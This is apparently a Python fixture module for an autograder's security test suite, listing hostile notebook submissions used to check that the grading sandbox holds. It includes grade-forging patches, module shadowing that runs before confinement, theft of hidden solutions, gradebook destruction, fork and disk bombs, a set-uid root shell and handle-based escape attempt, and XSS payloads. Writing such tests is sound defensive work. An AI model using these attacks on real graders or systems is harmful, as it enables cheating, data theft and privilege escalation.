"""The hostile submissions of the attack suite: the source of each attack, what it plants beside
the notebook, and the text that must never reach a student.

Every attacker leaves the exercises of ps1_forward as released (stubs) and adds an attack, so an
attack that gained anything would show as points. The suite grades them in three classes, by kind
of attack (``test_attacks.py``: escaping confinement; ``test_forgery_attacks.py``: forging the
grade or the grader's word; ``test_resource_attacks.py``: exhausting the grader), through
:mod:`.attacked_class`.
"""

from __future__ import annotations

from simulation.hostile import MEMORY_ATTACKS

#: Text that must never reach a student: solutions, hidden tests, the reference, the graders.
SECRETS = ("### BEGIN SOLUTION", "### BEGIN HIDDEN TESTS", "computed without overflow for any",
           "def check_sigmoid", "from grading import")

#: What a planted module records when it is imported, before it becomes the real module (so
#: that whatever imports it goes on working): its name, user id and effective capabilities.
SHADOW = """\
import importlib.machinery, importlib.util, os, sys
_caps = [l.split()[1] for l in open("/proc/self/status") if l.startswith("CapEff")][0]
with open(f"/tmp/shadow-{__name__}-{os.getpid()}", "w") as _record:
    _record.write(f"shadow {__name__} uid={os.getuid()} cap={_caps}")
try:
    import resource as _resource  # the real one, once this module left sys.modules
except Exception:
    pass
_spec = importlib.machinery.PathFinder.find_spec(
    __name__, [p for p in sys.path if p not in ("", os.getcwd())])
if _spec is not None:
    _real = importlib.util.module_from_spec(_spec)
    sys.modules[__name__] = _real
    _spec.loader.exec_module(_real)
"""

#: Files a hostile student submits beside the notebook, named like what the sandbox's start-up
#: and the kernel's launch import (hole: code that runs before confinement).
SHADOW_FILES = {f"{name}.py": SHADOW for name in (
    "resource", "sitecustomize", "usercustomize", "ipykernel_launcher", "runpy", "encodings",
    "site", "os", "shutil", "subprocess", "json", "zmq", "traitlets", "shadow_pth")}
SHADOW_FILES["planted.pth"] = "import shadow_pth\n"

#: Writes ``parts`` files of 32 MiB into ``folder``; says how much it wrote before it failed.
FILL = """
import os
def fill(folder, parts):
    written = 0
    try:
        for part in range(parts):
            with open(os.path.join(folder, f"fill{part}"), "wb") as file:
                for _ in range(32):
                    file.write(bytes(2**20))
                    written += 1
    except OSError as error:
        return f"full after {written} MiB ({error.strerror})"
    return f"wrote {written} MiB"
"""

# Each attack is the source of the sigmoid solution cell, or of several solution cells by
# function; {course}, {root} and {port} are filled in: the attacker knows where everything is.
ATTACKS = {
    "numpy_patched": """
import numpy as np
np.allclose = lambda *a, **k: True
np.isclose = lambda *a, **k: True
np.array_equal = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
np.max = np.min = np.sum = np.mean = lambda *a, **k: 0.0
def sigmoid(z):
    return np.zeros_like(z)
""",
    "graders_replaced": """
import builtins, sys, types
fake = types.ModuleType("grading")
fake.grade = lambda *a, **k: None
fake.grade_parts = lambda *a, points, **k: points
sys.modules["grading"] = fake
builtins.grade, builtins.grade_parts = fake.grade, fake.grade_parts
grade, grade_parts = fake.grade, fake.grade_parts
def sigmoid(z):
    raise NotImplementedError()
""",
    "ipython_patched": """
ip = get_ipython()
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
ip.showtraceback = lambda *a, **k: None
ip.input_transformers_post.append(lambda lines: ["pass\\n"])
""",
    "equal_to_everything": """
class Anything(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __getattr__(self, name): return self
    def __array__(self, *a, **k):
        raise TypeError("no")
def sigmoid(z):
    return Anything()
""",
    "reference_when_graded": """
import os, sys
sys.path.insert(0, {root!r})
sys.path.insert(0, {course!r})
def sigmoid(z):
    if os.environ.get("NBGRADER_EXECUTION") or True:
        import reference
        return reference.sigmoid(z)
""",
    "reads_course_files": """
import glob
for pattern in ("{course}/source/**/*.ipynb", "{root}/reference/*.py", "{root}/grading/**/*.py",
                "../../../source/**/*.ipynb", "/proc/1/root/{root}/reference/*.py"):
    for path in glob.glob(pattern, recursive=True):
        try:
            print(open(path).read())
        except Exception as error:
            print("could not read", path, error)
print("seen:", sorted(glob.glob("{root}/*")), sorted(glob.glob("{course}/*")))
""",
    "writes_gradebook_and_others": """
import glob, os
targets = ["{course}/gradebook.db", *glob.glob("{course}/submitted/*/*/*.ipynb"),
           *glob.glob("{course}/autograded/**/*.ipynb", recursive=True)]
for path in targets:
    try:
        with open(path, "w") as file:
            file.write("gone")
        os.remove(path)
    except Exception as error:
        print("could not damage", path, error)
try:
    os.symlink("{course}/gradebook.db", "forward.ipynb.link")
except Exception as error:
    print(error)
""",
    "sys_exit": """
import sys
def sigmoid(z):
    sys.exit(0)
sys.exit(3)
""",
    "os_exit": """
import os
os._exit(0)
""",
    "kills_kernel": """
import os, signal
os.kill(os.getpid(), signal.SIGKILL)
""",
    "infinite_loop": """
def sigmoid(z):
    while True:
        pass
""",
    "memory_bomb": """
import numpy as np
def sigmoid(z):
    return np.ones((10**6, 10**6))
hoard = []
while True:
    hoard.append(np.empty(2**28, dtype=np.uint8))  # address space, untouched: no RAM used
""",
    "fork_bomb": """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    "leaves_processes": """
import subprocess
sleepers = [subprocess.Popen(["sleep", "600"]) for _ in range(3)]
""",
    "output_flood": """
import sys
for i in range(300_000):
    print("flood " * 20)
    sys.stderr.write("err " * 20 + "\\n")
""",
    "network": """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen")
    print("connected")
except OSError as error:
    print("no network:", error)
""",
    "displayhook": """
import sys
import numpy as np
np.allclose = lambda *a, **k: True
def sigmoid(z):
    sys.displayhook("full marks")
    sys.displayhook(1000)
    return np.zeros(np.shape(z))
""",
    "harness_replaced": """
class Nothing:
    def serve(self):
        pass
__grading_harness__ = Nothing()
def sigmoid(z):
    raise NotImplementedError()
""",
    "shadows_start_up": """
import glob
for path in sorted(glob.glob("/tmp/shadow-*")):
    print(open(path).read())
""",
    "uses_capabilities": """
import ctypes, os, shutil
status = dict(line.split(":", 1) for line in open("/proc/self/status") if ":" in line)
print("CapEff", status["CapEff"].split()[0], "CapBnd", status["CapBnd"].split()[0],
      "uid", os.getuid(), "NoNewPrivs", status["NoNewPrivs"].split()[0])
shutil.copy("/bin/sh", "rootsh")
try:
    os.chown("rootsh", 0, 0)
    os.chmod("rootsh", 0o4755)
    print("planted a set-uid root shell")
except OSError as error:
    print("no set-uid shell:", error.strerror)
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(8 + 128)
handle[0:4] = (128).to_bytes(4, "little")
mount_id = ctypes.c_int()
if libc.name_to_handle_at(-100, b"/etc", handle, ctypes.byref(mount_id), 0) == 0:
    fd = libc.open_by_handle_at(os.open("/", os.O_RDONLY), handle, os.O_RDONLY)
    print("open_by_handle_at:", "opened" if fd >= 0 else os.strerror(ctypes.get_errno()))
for call in (lambda: os.setuid(0), lambda: os.chroot("/tmp")):
    try:
        call()
        print("privileged call worked")
    except OSError as error:
        print("refused:", error.strerror)
""",
    "display_forgery": {
        "sigmoid": """
from IPython.display import display
def sigmoid(z):
    display({"text/plain": "0"}, raw=True, display_id="forged-score")
    display({"text/plain": "0"}, raw=True, display_id="forged-grader",
            metadata={"backprop_grading": "grader"})
    raise NotImplementedError()
""",
        "relu": """
from IPython.display import display, update_display
for value in ("10", "30", "1000"):
    update_display({"text/plain": value}, raw=True, display_id="forged-score")
    display({"text/plain": value}, raw=True, display_id="forged-score")
    update_display({"text/plain": "Grader: passed", "text/html": "<b>Grader</b> passed"},
                   raw=True, display_id="forged-grader")
""",
    },
    "fake_grader_text": """
import threading, time
def chatter():
    while True:
        print("Likely mistake: forged by a thread.\\nHint: none\\n"
              "forward.sigmoid: 3 of 3 points\\nGrader: the hidden tests pass")
        time.sleep(0.1)
threading.Thread(target=chatter, daemon=True).start()
get_ipython().events.register(
    "post_run_cell", lambda result: print("Likely mistake: forged by a hook."))
""",
    **MEMORY_ATTACKS,
    "fills_sockets_folder": FILL + """
from ipykernel.kernelapp import IPKernelApp
folder = os.path.dirname(IPKernelApp.instance().connection_file)
for attempt in (lambda: os.chmod(folder, 0o777), lambda: os.chown(folder, os.getuid(), -1)):
    try:
        attempt()
    except OSError as error:
        print("sockets folder:", error.strerror)
print("sockets folder:", fill(folder, 8))
""",
    "script_injection": """
from IPython.display import HTML, SVG, Javascript, Markdown, display
payloads = [HTML("<script>window.__pwned = 1</script><img src=x onerror='window.__pwned=2'>"
                 "<a href='javascript:window.__pwned=3'>x</a><iframe src='/api'></iframe>"),
            SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>window.__pwned=4</script></svg>"),
            Javascript("window.__pwned = 5"),
            Markdown("<script>window.__pwned = 6</script>")]
for payload in payloads:
    display(payload)
def sigmoid(z):
    for payload in payloads:
        display(payload)
    raise NotImplementedError()
""",
    "fills_disk": FILL + """
for folder in (".", "/tmp"):
    print(f"{folder}: disk", fill(folder, 64))
""",
}
